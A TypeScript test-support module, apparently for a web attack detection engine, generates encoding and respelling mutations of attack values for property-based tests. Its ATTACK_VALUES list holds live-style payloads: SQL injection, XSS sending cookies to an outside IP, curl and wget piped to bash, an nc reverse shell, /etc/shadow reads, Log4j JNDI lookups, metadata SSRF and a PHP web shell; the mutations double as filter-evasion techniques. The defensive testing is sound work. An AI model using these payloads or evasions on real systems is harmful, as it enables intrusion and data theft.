// Metamorphic mutations: one attack value, rewritten in a way its target still accepts. The value
// starts as one query argument (`canonical`); each mutation changes one thing: how the URL encodes it
// (every byte, some bytes, twice, `+` for a blank, hex case, %uXXXX), which carrier holds it (a form
// body, JSON, multipart, a cookie, a path segment, another parameter name, a benign neighbour), or
// how the payload's own language spells it (SQL keyword case and blanks, HTML tag and attribute case,
// character references in attribute values, JS identifier escapes in handlers). A mutation that has
// nothing to change (no blank, no attribute value) returns null. scripts/probe-mutations.ts runs
// them over a corpus; test/engine/variants-mutations.test.ts over the payloads below.
import fc from "fast-check";
import type { Req } from "../engine.js";
import { rng, type R } from "./rng.js";

const HOST: [string, string] = ["host", "svc.local"];
const UA: [string, string] = ["user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"];
const hex = (n: number, w: number) => n.toString(16).toUpperCase().padStart(w, "0");
const utf8 = (s: string) => [...Buffer.from(s, "utf8")];
const alnum = (b: number) => (b >= 0x30 && b <= 0x39) || ((b | 32) >= 0x61 && (b | 32) <= 0x7a);
const pick = <T>(r: R, xs: readonly T[]): T => xs[r(xs.length)];

/** What a query or form value must escape: controls, blanks, non-ASCII, `&=+#%;`, quotes and `<>` as browsers do. */
function enc(s: string, space = "%20", hexCase: (h: string, r: R) => string = (h) => h, r: R = () => 0): string {
  return utf8(s).map((b) => (b === 0x20 ? space : b < 0x21 || b >= 0x7f || `&=+#%;"'<>\`{}|\\^[]`.includes(String.fromCharCode(b)) ? "%" + hexCase(hex(b, 2), r) : String.fromCharCode(b))).join("");
}
const pctAll = (s: string) => utf8(s).map((b) => "%" + hex(b, 2)).join("");

/** An attack value and where it sits: the value of parameter `name`, or (`inName`) the name itself, with a plain value. */
export interface Placed { category: string; name: string; value: string; inName?: boolean }
/** `name=value` with the payload already encoded as `v` in its place. */
const kv = (p: Placed, v: string) => (p.inName ? `${v}=test` : `${p.name}=${v}`);
export const canonical = (p: Placed): Req => query(kv(p, enc(p.value)));
const query = (q: string): Req => ({ method: "GET", path: `/app/view?${q}`, headers: [HOST, UA] });
const post = (type: string, body: string): Req => ({ method: "POST", path: "/app/view", headers: [HOST, UA, ["content-type", type]], body });
const jsonOf = (p: Placed, v = JSON.stringify(p.value)) => (p.inName ? `{${v}:"test"}` : `{${JSON.stringify(p.name)}:${v}}`);

/** Languages whose keywords read the same in any case (the value's category decides). */
const SQL_WORDS = /\b(select|union|all|from|where|and|or|not|order|group|by|having|limit|insert|into|values|update|set|delete|drop|table|sleep|benchmark|waitfor|delay|exec|execute|declare|cast|convert|concat|char|substring|ascii|like|null|case|when|then|else|end|if|information_schema|version|user|database|load_file|outfile)\b/gi;
const flipCase = (w: string, r: R) => [...w].map((c) => (r(2) ? c.toUpperCase() : c.toLowerCase())).join("");
/** HTML: tag names, attribute names, the `javascript:` scheme (JS itself is case-sensitive). */
function htmlCase(v: string, r: R): string {
  return v
    .replace(/(<\/?)([a-z][a-z0-9]*)/gi, (_, lt, tag) => lt + flipCase(tag, r))
    .replace(/(\s|\/)(on[a-z]+|src|href|style|action|formaction)(\s*=)/gi, (_, sp, name, eq) => sp + flipCase(name, r) + eq)
    .replace(/javascript:/gi, (m) => flipCase(m, r));
}
/** SQL blanks outside quoted literals: what the databases read as a blank. */
function sqlBlanks(v: string, blank: string): string | null {
  let out = "";
  let q = "";
  for (let i = 0; i < v.length; i++) {
    const c = v[i];
    if (q) { if (c === q || (q === "*/" && c === "/" && v[i - 1] === "*")) q = ""; out += c; continue; }
    if (c === "'" || c === '"' || c === "`") { q = c; out += c; continue; }
    // a comment's text is no statement's blank: `/*+hint text*/` keeps its blank
    if (c === "/" && v[i + 1] === "*") { q = "*/"; out += c; continue; }
    // `-- ` needs its blank (MySQL), and a `#` or `-- ` comment runs to the end of the line
    if (c === "#" || (c === "-" && v[i + 1] === "-" && v[i + 2] === " ")) { out += v.slice(i); break; }
    out += c === " " ? blank : c;
  }
  return out === v ? null : out;
}
/** Character references for some characters of each tag's attribute values (the browser decodes them before use). */
function attrRefs(v: string, r: R, form: "dec" | "hex" | "zeros" | "nosemi"): string | null {
  const ref = (c: string, next: string) => {
    const n = c.charCodeAt(0);
    if (form === "hex") return `&#x${n.toString(16)};`;
    if (form === "zeros") return `&#${"0".repeat(2 + r(4))}${n};`;
    // no `;`: a decimal reference ends at the first non-digit, so it needs one after it
    if (form === "nosemi") return /[0-9]/.test(next) || next === "" ? `&#${n};` : `&#${n}`;
    return `&#${n};`;
  };
  let changed = false;
  const out = v.replace(/(<[a-z][^>]*?\s(?:on[a-z]+|src|href|action|formaction)\s*=\s*)(["']?)([^"'\s>]+)/gi, (_, head, q, val: string) => {
    let s = "";
    for (let i = 0; i < val.length; i++) {
      const c = val[i];
      // the first candidate always, then about half of the rest
      if (/[a-z:(]/i.test(c) && (!changed || r(2) === 0)) { s += ref(c, val[i + 1] ?? q ?? ""); changed = true; } else s += c;
    }
    return head + q + s;
  });
  return changed ? out : null;
}
const JS_KEYWORDS = new Set(["function", "new", "typeof", "return", "this", "var", "let", "const", "if", "for", "while", "void", "delete", "in", "of", "throw", "with", "import", "class"]);
/** In script (an event handler's value, a `<script>` body, a `javascript:` URL), a called or dereferenced identifier's first letter as `\uXXXX` (an identifier escape). */
function jsEscapes(v: string): string | null {
  let changed = false;
  const esc = (code: string) => code.replace(/(^|[^\w$.\\])([a-z_$][\w$]*)(?=\s*[(.])/gi, (m, pre, id: string) => {
    if (JS_KEYWORDS.has(id)) return m;
    changed = true;
    return pre + "\\u" + hex(id.charCodeAt(0), 4).toLowerCase() + id.slice(1);
  });
  const out = v
    .replace(/(\son[a-z]+\s*=\s*["']?)([^"'>]*)/gi, (_, head, code: string) => head + esc(code))
    .replace(/(<script[^>]*>)([\s\S]*?)(?=<\/script|$)/gi, (_, head, code: string) => head + esc(code))
    .replace(/(javascript:)([^"'>\s]*)/gi, (_, head, code: string) => head + esc(code));
  return changed ? out : null;
}

type Mutation = (p: Placed, r: R) => Req | null;
type Spelling = (p: Placed, r: R) => string | null;
const sqli = (p: Placed) => p.category === "sqli";
const xss = (p: Placed) => p.category === "xss";
const rce = (p: Placed) => p.category === "rce";

/** Shell blanks outside quotes as `blank` (`${IFS}`, a tab): the shell splits words on them alike. */
function shellBlanks(v: string, blank: string): string | null {
  return /[;|&`$]|\$\(/.test(v) && v.includes(" ") ? v.replace(/ /g, blank) : null;
}
/** A quote pair or a backslash inside each command word of 3+ letters after a shell operator: `c''at`, `w\get`. */
function shellSplit(v: string, r: R): string | null {
  let changed = false;
  const out = v.replace(/(^|[;|&`(]\s*)([a-z]{3,})/g, (_, pre, w: string) => {
    changed = true;
    const i = 1 + r(w.length - 1);
    return pre + w.slice(0, i) + (r(2) ? "''" : "\\") + w.slice(i);
  });
  return changed ? out : null;
}
/** MySQL versioned comments round SQL keywords (`/*!50000union` ... closed): every server since 5.0 runs their text. */
function sqlVersioned(v: string): string | null {
  const out = v.replace(/\b(union|select|from|where|and|or|sleep)\b/gi, (w) => `/*!50000${w}*/`);
  return out === v ? null : out;
}
/** Named references (HTML5) for `:`, `(`, `)` and a tab inside the `javascript:` scheme: `javascript&colon;alert&lpar;1&rpar;`. */
function namedRefs(v: string): string | null {
  const out = v.replace(/(javascript)(:)([^"'>\s]*)/gi, (_, s, __, rest: string) => s.slice(0, 4) + "&Tab;" + s.slice(4) + "&colon;" + rest.replace(/\(/g, "&lpar;").replace(/\)/g, "&rpar;"));
  return out === v ? null : out;
}
/** ES2015 code point escapes (`\u{61}`) for identifiers in event handlers. */
const jsBraces = (v: string) => jsEscapes(v)?.replace(/\\u00([0-9a-f]{2})/g, (_, h) => `\\u{${h}}`) ?? null;

/** Blanks between a tag's name and attributes as a tab, a line feed, a form feed or (where it parts them) `/`: the HTML tokenizer reads them alike. */
function tagBlanks(v: string, r: R): string | null {
  let changed = false;
  const out = v.replace(/<([a-z][a-z0-9]*)((?:\s+[^>]*)?)>/gi, (m, tag, rest: string) => {
    if (!/\s/.test(rest)) return m;
    changed = true;
    // a blank outside quoted attribute values only
    // `/` parts only after the tag name or a quoted value: an unquoted value runs on through it
    let q = "";
    let t = "";
    let prev = "";
    for (const c of rest) {
      if (q) { if (c === q) q = ""; t += c; prev = c; continue; }
      if (c === '"' || c === "'") { q = c; t += c; prev = c; continue; }
      t += c === " " ? pick(r, t === "" || prev === '"' || prev === "'" ? ["/", "\t", "\n", "\f"] : ["\t", "\n", "\f"]) : c;
      prev = c;
    }
    return `<${tag}${t}>`;
  });
  return changed ? out : null;
}
/** A tab or line feed inside the `javascript:` scheme (URL parsers drop them) of an attribute. */
function schemeBreak(v: string, r: R): string | null {
  const out = v.replace(/java(script:)/gi, (m) => m.slice(0, 4) + pick(r, ["\t", "\n", "\r\n"]) + m.slice(4));
  return out === v ? null : out;
}
/** A call `f(x)` in script as a tagged template (`f\`x\``) or a parenthesised callee (`(f)(x)`). */
function jsCallForms(v: string, r: R): string | null {
  const out = v.replace(/\b(alert|confirm|prompt|print|eval)\(([^()]*)\)/g, (_, f, a: string) => (r(2) && /^[\w.]*$/.test(a) ? `${f}\`${a}\`` : `(${f})(${a})`));
  return out === v ? null : out;
}
/** Path segments that resolve to the same file: `./` inserted and `/` doubled. */
function pathDots(v: string, r: R): string | null {
  if (!/(\.\.[\\/]|^\/|file:\/\/)/.test(v)) return null;
  const out = v.replace(/\/(?=[a-z])/gi, () => (r(2) ? "/./" : "//"));
  return out === v ? null : out;
}
/** A dotted IPv4 host written as one decimal or hex number (`http://2852039166/`), as URL parsers and inet_aton read it. */
function ipForms(v: string, r: R): string | null {
  // (not inside an IPv6 literal, whose embedded IPv4 must stay dotted)
  const out = v.replace(/(?<![:\[])\b(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})\b/g, (m, a, b, c, d) => {
    const n = ((+a << 24) >>> 0) + (+b << 16) + (+c << 8) + +d;
    return r(2) ? String(n) : "0x" + n.toString(16);
  });
  return out === v ? null : out;
}
/** Shell brace expansion for a simple command after an operator: `; cat /etc/x` as `; {cat,/etc/x}`. */
function shellBrace(v: string): string | null {
  const out = v.replace(/([;|&]\s*)([a-z]+) ([^\s;|&`$()]+)(?=$|\s*[;|&])/g, (_, op, cmd, arg) => `${op}{${cmd},${arg}}`);
  return out === v ? null : out;
}
/** Log4j lookups that spell `jndi` piecewise: `${::-j}`, `${lower:n}`. */
function jndiPieces(v: string, r: R): string | null {
  const out = v.replace(/\$\{jndi:/gi, () => "${" + [..."jndi"].map((c) => (r(2) ? `\${::-${c}}` : `\${lower:${c}}`)).join("") + ":");
  return out === v ? null : out;
}
/** Blanks inside template delimiters: `{{ 7*7 }}`, `${ 7*7 }`. */
function templateBlanks(v: string): string | null {
  const out = v.replace(/(\{\{|\$\{|#\{|<%=?)(.*?)(\}\}|\}|%>)/g, (_, o, body, c) => `${o} ${body.trim()} ${c}`);
  return out === v ? null : out;
}

/** Attribute values quoted another way: bare values quoted, quoted ones with the other quote (the HTML tokenizer reads all alike). */
function attrQuotes(v: string, r: R): string | null {
  const out = v.replace(/(<[a-z][^>]*?\s(?:on[a-z]+|src|href|action|formaction)\s*=\s*)("[^"]*"|'[^']*'|[^\s"'>]+)/gi, (_, head, val: string) => {
    const inner = /^["']/.test(val) ? val.slice(1, -1) : val;
    const q = inner.includes("'") ? '"' : inner.includes('"') ? "'" : pick(r, ['"', "'"]);
    return head + q + inner + q;
  });
  return out === v ? null : out;
}
/** Windows reads command names, switches and paths in any case: `CMD /C`, `PowerShell -Enc`. */
function winCase(v: string, r: R): string | null {
  if (!/\b(cmd|powershell|pwsh|certutil|bitsadmin|whoami|ipconfig|type|dir)\b|\\windows\\|win\.ini|boot\.ini/i.test(v)) return null;
  const out = v.replace(/\b(cmd|powershell|pwsh|certutil|bitsadmin|whoami|ipconfig|windows|win\.ini|boot\.ini|system32|enc)\b/gi, (w) => flipCase(w, r));
  return out === v ? null : out;
}
/** URL forms a fetcher resolves to the same host: the scheme's case, userinfo before the host, a trailing dot on a name. */
function urlForms(v: string, r: R): string | null {
  const out = v.replace(/\b([a-z][a-z0-9+.-]*):\/\/([^/?#\s]+)/gi, (_, scheme: string, host: string) => {
    const k = r(3);
    if (k === 0) return `${scheme.toUpperCase()}://${host}`;
    if (k === 1 && !host.includes("@")) return `${scheme}://assets.example.com@${host}`;
    const name = /^([a-z][a-z0-9-]*\.)+[a-z]+(:\d+)?$/i.test(host);
    return name ? `${scheme}://${host.replace(/(:\d+)?$/, ".$1")}` : `${scheme.toUpperCase()}://${host}`;
  });
  return out === v ? null : out;
}
/** Log4j lower-cases a lookup's prefix: `${JnDi:LDAP://...}`. */
function lookupCase(v: string, r: R): string | null {
  const out = v.replace(/\$\{(jndi|lower|upper|env|sys|::-)/gi, (m) => flipCase(m, r)).replace(/\b(ldap|rmi|dns|ldaps|iiop)(?=:\/\/)/gi, (m) => flipCase(m, r));
  return out === v ? null : out;
}
/** Windows paths with the other separator (`/` for `\`): both reach the same file there. */
function winSlashes(v: string): string | null {
  if (!/\\/.test(v) || !/(windows|win\.ini|boot\.ini|system32|inetpub|\.\.\\)/i.test(v)) return null;
  return v.replace(/\\/g, "/");
}

/** PHP reads function names, `<?php` and stream wrapper schemes in any case: `SyStEm(`, `PHP://filter`. */
function phpCase(v: string, r: R): string | null {
  const out = v
    .replace(/\b(system|exec|passthru|shell_exec|eval|assert|base64_decode|file_get_contents|include|require|phpinfo)(?=\s*\()/gi, (w) => flipCase(w, r))
    .replace(/<\?php/gi, (w) => "<?" + flipCase(w.slice(2), r))
    .replace(/\b(php|phar|zip|data|expect|glob)(?=:\/\/)/gi, (w) => flipCase(w, r));
  return out === v ? null : out;
}

/** Rewrites of the payload's own language, by name: the value a server hands on still means the same to its target (null: nothing to rewrite). */
export const SPELLINGS: Record<string, Spelling> = {
  "keyword-case": (p, r) => ((v) => (v === p.value ? null : v))(sqli(p) ? p.value.replace(SQL_WORDS, (w) => flipCase(w, r)) : xss(p) ? htmlCase(p.value, r) : p.category === "php" ? phpCase(p.value, r) : p.value),
  "sql-comment": (p) => (sqli(p) ? sqlBlanks(p.value, "/**/") : null),
  "sql-tab": (p) => (sqli(p) ? sqlBlanks(p.value, "\t") : null),
  "sql-lf": (p) => (sqli(p) ? sqlBlanks(p.value, "\n") : null),
  "sql-ff": (p) => (sqli(p) ? sqlBlanks(p.value, "\f") : null),
  "sql-cr-lf": (p) => (sqli(p) ? sqlBlanks(p.value, "\r\n") : null),
  "sql-hash-lf": (p) => (sqli(p) ? sqlBlanks(p.value, "#\n") : null),
  "sql-dash-lf": (p) => (sqli(p) ? sqlBlanks(p.value, "--\n") : null),
  "sql-versioned": (p) => (sqli(p) ? sqlVersioned(p.value) : null),
  "html-dec": (p, r) => (xss(p) ? attrRefs(p.value, r, "dec") : null),
  "html-hex": (p, r) => (xss(p) ? attrRefs(p.value, r, "hex") : null),
  "html-zeros": (p, r) => (xss(p) ? attrRefs(p.value, r, "zeros") : null),
  "html-nosemi": (p, r) => (xss(p) ? attrRefs(p.value, r, "nosemi") : null),
  "html-named": (p) => (xss(p) ? namedRefs(p.value) : null),
  "js-escape": (p) => (xss(p) ? jsEscapes(p.value) : null),
  "js-brace-escape": (p) => (xss(p) ? jsBraces(p.value) : null),
  "shell-ifs": (p) => (rce(p) ? shellBlanks(p.value, "${IFS}") : null),
  "shell-tab": (p) => (rce(p) ? shellBlanks(p.value, "\t") : null),
  "shell-split": (p, r) => (rce(p) ? shellSplit(p.value, r) : null),
  "shell-brace": (p) => (rce(p) ? shellBrace(p.value) : null),
  "tag-blanks": (p, r) => (xss(p) ? tagBlanks(p.value, r) : null),
  "scheme-break": (p, r) => (xss(p) ? schemeBreak(p.value, r) : null),
  "js-call-forms": (p, r) => (xss(p) ? jsCallForms(p.value, r) : null),
  "path-dots": (p, r) => (p.category === "lfi" ? pathDots(p.value, r) : null),
  "ip-forms": (p, r) => (p.category === "ssrf" || p.category === "rfi" ? ipForms(p.value, r) : null),
  "jndi-pieces": (p, r) => jndiPieces(p.value, r),
  "template-blanks": (p) => (p.category === "ssti" ? templateBlanks(p.value) : null),
  "attr-quotes": (p, r) => (xss(p) ? attrQuotes(p.value, r) : null),
  "win-case": (p, r) => (rce(p) || p.category === "lfi" ? winCase(p.value, r) : null),
  "win-slashes": (p) => (p.category === "lfi" || rce(p) ? winSlashes(p.value) : null),
  "url-forms": (p, r) => (p.category === "ssrf" || p.category === "rfi" ? urlForms(p.value, r) : null),
  "lookup-case": (p, r) => (p.category === "java" ? lookupCase(p.value, r) : null),
};

const uEscape = (v: string) => `"${[...v].map((c) => (alnum(c.charCodeAt(0)) ? c : "\\u" + hex(c.charCodeAt(0), 4).toLowerCase())).join("")}"`;
const xmlText = (v: string) => v.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");

/** How the request encodes and carries the value, by name (null: the carrier cannot hold this placement). */
export const CARRIERS: Record<string, Mutation> = {
  "url-all": (p) => query(kv(p, pctAll(p.value))),
  "url-some": (p, r) => query(kv(p, utf8(p.value).map((b) => { const c = String.fromCharCode(b); return r(2) || !(alnum(b) || "-._~!$()*,/:@".includes(c)) ? "%" + hex(b, 2) : c; }).join(""))),
  "url-double": (p) => query(kv(p, enc(p.value).replace(/%/g, "%25"))),
  "plus-space": (p) => (p.value.includes(" ") ? query(kv(p, enc(p.value, "+"))) : null),
  "hex-lower": (p) => (/[A-F]/.test(enc(p.value).replace(/%20/g, "").match(/%[0-9A-F]{2}/g)?.join("") ?? "") ? query(kv(p, enc(p.value, "%20", (h) => h.toLowerCase()))) : null),
  "hex-mixed": (p, r) => query(kv(p, utf8(p.value).map((b) => "%" + [...hex(b, 2)].map((d) => (r(2) ? d.toLowerCase() : d)).join("")).join(""))),
  "percent-u": (p) => query(kv(p, [...p.value].map((c) => (alnum(c.charCodeAt(0)) ? c : "%u" + hex(c.charCodeAt(0), 4))).join(""))),
  "form-body": (p) => post("application/x-www-form-urlencoded", kv(p, enc(p.value, "+"))),
  "json-string": (p) => post("application/json", jsonOf(p)),
  "json-nested": (p) => post("application/json", `{"data":{"items":[{"id":7,${jsonOf(p).slice(1, -1)}}]}}`),
  "json-u-escape": (p) => post("application/json", jsonOf(p, uEscape(p.value))),
  "json-array": (p) => (p.inName ? null : post("application/json", `[${JSON.stringify(p.value)}]`)),
  "json-in-query": (p) => (p.inName ? null : query(`filter=${enc(JSON.stringify({ [p.name]: p.value }))}`)),
  "multipart": (p) => ({ method: "POST", path: "/app/view", headers: [HOST, UA, ["content-type", "multipart/form-data; boundary=----x7Q"]], body: `------x7Q\r\nContent-Disposition: form-data; name="${p.inName ? p.value.replace(/"/g, "%22").replace(/[\r\n]/g, " ") : p.name}"\r\n\r\n${p.inName ? "test" : p.value}\r\n------x7Q--\r\n` }),
  "xml-body": (p) => (p.inName ? null : post("application/xml", `<?xml version="1.0"?><req><${p.name}>${xmlText(p.value)}</${p.name}></req>`)),
  "cookie": (p) => ({ method: "GET", path: "/app/view", headers: [HOST, UA, ["cookie", `sid=3f9a1c; ${kv(p, enc(p.value))}`]] }),
  "extra-before": (p) => query(`page=2&sort=asc&${kv(p, enc(p.value))}`),
  "extra-after": (p) => query(`${kv(p, enc(p.value))}&page=2&lang=en`),
  "param-name": (p, r) => (p.inName ? null : query(`${pick(r, ["v", "data", "input", "s", "val", "x"])}=${enc(p.value)}`)),
  "php-array": (p, r) => (p.inName ? null : query(`${p.name}${r(2) ? "%5B%5D" : "%5Ba%5D"}=${enc(p.value)}`)),
  "path-segment": (p) => ({ method: "GET", path: `/app/view/${enc(p.value).replace(/\//g, "%2F").replace(/\?/g, "%3F")}`, headers: [HOST, UA] }),
};

/** Every mutation by name: the request that carries `p` rewritten one way (a carrier, or a spelling as one query argument), or null where it changes nothing. */
export const MUTATIONS: Record<string, Mutation> = {
  ...CARRIERS,
  ...Object.fromEntries(Object.entries(SPELLINGS).map(([k, f]) => [k, (p: Placed, r: R) => ((v) => (v === null ? null : canonical({ ...p, value: v })))(f(p, r))])),
};
export const MUTATION_NAMES = Object.keys(MUTATIONS);

/** `p` mutated by `m`, deterministically from `seed`. */
export const mutate = (p: Placed, m: string, seed: number): Req | null => MUTATIONS[m](p, rng(seed));
/** `p` respelled by `spelling`, then carried by `carrier` (two changes at once), or null where either has nothing to do. */
export function compose(p: Placed, spelling: string, carrier: string, seed: number): Req | null {
  const r = rng(seed);
  const v = SPELLINGS[spelling](p, r);
  return v === null ? null : CARRIERS[carrier]({ ...p, value: v }, r);
}

/**
 * Our own attack values by category (written for these tests, not taken from a corpus or a public
 * list): each is an attack as one parameter's value, and each category's values exercise the
 * mutations that rewrite its language (SQL blanks and keyword case, HTML references, JS escapes).
 */
export const ATTACK_VALUES: Record<string, string[]> = {
  sqli: [
    "42 union all select login,passwd_hash from staff_accounts",
    "x') or 3>2 or ('a'='b",
    "9 and (select count(*) from pg_user)>0",
    "5; update invoices set total=0 where 1=1--",
    "nobody' union select null,@@version,null-- -",
    "7 or sleep(4)=0 limit 1",
    "1 and extractvalue(7,concat(0x5c,(select database())))",
    "zz'; exec master..xp_cmdshell 'ping 198.51.100.4'--",
    "1' and substring((select password from users limit 1),1,1)='k",
    // statements longer than 100 bytes: one line break for every blank must not read as a code sample
    "drop table if exists audit_trail_entries_archive_2024, audit_trail_entries_archive_2025, session_tokens_backup cascade",
    "alter table customer_accounts add column backdoor_flag int default 1 after customer_email_address_verified;",
  ],
  xss: [
    "<img src=q onerror=alert(document.domain)>",
    "\"><svg onload=prompt(8)>",
    "<a href=\"javascript:fetch('//203.0.113.7/'+document.cookie)\">win</a>",
    "<body onpageshow=confirm(location.hash)>",
    "<details open ontoggle=eval(atob('YWxlcnQoMSk='))>",
    "'><iframe src=javascript:alert(top.origin)></iframe>",
    "<input autofocus onfocus=window.open('//198.51.100.2')>",
    "<video><source onerror=print()></video>",
  ],
  rce: [
    "report.pdf; curl -s http://198.51.100.3/p | bash",
    "8.8.8.8 && cat /etc/shadow",
    "`wget -qO- 203.0.113.5/k|sh`",
    "a$(id)b",
    "x|nc -e /bin/bash 198.51.100.9 9001",
    "file.txt || powershell -enc SQBFAFgA",
  ],
  lfi: ["/etc/shadow", "/var/run/secrets/kubernetes.io/serviceaccount/token", "../../../../../etc/shadow", "....//....//....//etc/hosts", "..\\..\\..\\boot.ini", "/proc/self/environ", "file:///etc/passwd"],
  ssti: ["{{''.__class__.__mro__[1].__subclasses__()}}", "${7*191}", "{{request.application.__globals__.__builtins__}}", "#{T(java.lang.Runtime).getRuntime().exec('id')}"],
  ssrf: ["http://169.254.169.254/latest/meta-data/iam/", "http://[::ffff:127.0.0.1]:8500/v1/agent/self", "gopher://127.0.0.1:6379/_FLUSHALL", "http://metadata.google.internal/computeMetadata/v1/"],
  java: ["${jndi:rmi://198.51.100.8:1099/obj}", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}", "${${lower:j}ndi:ldap://203.0.113.2/z}"],
  php: ["php://filter/convert.base64-encode/resource=index.php", "<?php system($_GET['c']); ?>", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"],
  nosql: ["{\"$where\":\"sleep(3000)\"}", "';return this.role=='admin';var z='"],
  nodejs: ["require('child_process').execSync('id')", "__proto__[isAdmin]=true"],
};

/**
 * Benign values shaped like the attacks (keywords in prose, markup, shell punctuation, paths, URLs),
 * by the category whose spellings apply to them. Each is a value people send.
 */
export const LOOKALIKE_VALUES: Record<string, string[]> = {
  sqli: [
    "Please select the delivery date from the calendar, then update your address if it changed since your last order.",
    "drop-off points: union square, order desk, table 5 by the window",
    "1 or 2 rooms, and 3 beds; no pets",
    "Update: the delivery from Monday moves to Friday. Select a new slot where possible, or call us and we will set one for you.",
  ],
  xss: [
    "<b>Bold</b> and <i>italic</i> are allowed here",
    "<a href=\"https://docs.example.org/start?x=1&y=2\" title=\"Start here\">the guide</a>",
    "<img src=\"/media/cat.png\" alt=\"a cat on a mat\">",
    "x < 3 and y > 4, so x < y",
  ],
  rce: ["Tom & Jerry; season 2 | episode 5", "cost: $5 (approx.) & shipping", "ls -la output is attached below"],
  lfi: ["/docs/guide/intro.html", "/home/anna/projects/etc/notes.txt", "C:\\Users\\anna\\Documents\\report.docx", "/var/www/html/index.html"],
  ssti: ["Hello {name}, your order #42 ships {date}", "Price: ${price} per unit"],
  ssrf: ["https://www.example.com/about", "https://status.example.net:8443/v1/health?verbose=1"],
};

/** Spellings a person's own text takes too: case, line breaks and tabs in a textarea, references in pasted markup, dotted paths. */
export const HONEST_SPELLINGS = ["keyword-case", "sql-tab", "sql-lf", "sql-cr-lf", "html-dec", "html-hex", "html-nosemi", "path-dots"];

/** Encodings no browser or client applies to its own text (a second round of %-escapes), and prose or URLs as a path segment. */
const DISHONEST_CARRIERS = ["url-double", "path-segment"];

type Shaped = { family: string; k: number; req: Req };
const NAMES = ["q", "comment", "id", "search", "data"];
const placed = (values: Record<string, string[]>): Placed[] => Object.entries(values).flatMap(([category, vs]) => vs.map((value, k) => ({ category, name: NAMES[k % NAMES.length], value })));
const ATTACKS_PLACED = placed(ATTACK_VALUES);
const LOOKALIKES_PLACED = placed(LOOKALIKE_VALUES);

/** mutation -> category -> the values of that category it rewrites (a mutation with nothing to rewrite in a value leaves it out). */
type Families = Record<string, Record<string, Placed[]>>;
function families(ps: Placed[], mutations: string[]): Families {
  const out: Families = {};
  for (const m of mutations) {
    for (const p of ps) {
      if (mutate(p, m, 1) === null) continue;
      ((out[m] ??= {})[p.category] ??= []).push(p);
    }
  }
  return out;
}
const ATTACK_BY = families(ATTACKS_PLACED, MUTATION_NAMES);
const LOOKALIKE_BY = families(LOOKALIKES_PLACED, [...Object.keys(CARRIERS).filter((c) => !DISHONEST_CARRIERS.includes(c)), ...HONEST_SPELLINGS]);
/** Per mutation (the family), the categories it rewrites attacks of (its shapes, `k`). */
export const ATTACK_FAMILIES: Record<string, string[]> = Object.fromEntries(Object.entries(ATTACK_BY).map(([m, by]) => [m, Object.keys(by)]));

function shaped(by: Families): fc.Arbitrary<Shaped> {
  return fc.constantFrom(...Object.keys(by)).chain((family) => {
    const cats = Object.keys(by[family]);
    return fc.record({ k: fc.nat({ max: cats.length - 1 }), i: fc.nat(), seed: fc.nat() }).map(({ k, i, seed }) => {
      const ps = by[family][cats[k]];
      const p = ps[i % ps.length];
      return { family, k, req: mutate(p, family, seed) ?? canonical(p) };
    });
  });
}
/** One of our attacks rewritten by one mutation: `family` is the mutation, `k` the attack's category among those it rewrites. */
export const mutatedAttack = shaped(ATTACK_BY);
/** One of the look-alikes rewritten by one carrier or honest spelling. */
export const mutatedLookalike = shaped(LOOKALIKE_BY).map(({ req }) => ({ req }));
/** Every attack value, placed as one query argument's. */
export const ATTACKS: readonly Placed[] = ATTACKS_PLACED;
/** An attack respelled and then carried (two changes): `family` is `spelling+carrier`, `k` the attack's index. */
export const composedAttack: fc.Arbitrary<Shaped> = fc
  .record({ k: fc.nat({ max: ATTACKS_PLACED.length - 1 }), s: fc.constantFrom(...Object.keys(SPELLINGS)), c: fc.constantFrom(...Object.keys(CARRIERS)), seed: fc.nat() })
  .map(({ k, s, c, seed }) => ({ family: `${s}+${c}`, k, req: compose(ATTACKS_PLACED[k], s, c, seed) ?? CARRIERS[c](ATTACKS_PLACED[k], rng(seed)) ?? canonical(ATTACKS_PLACED[k]) }));
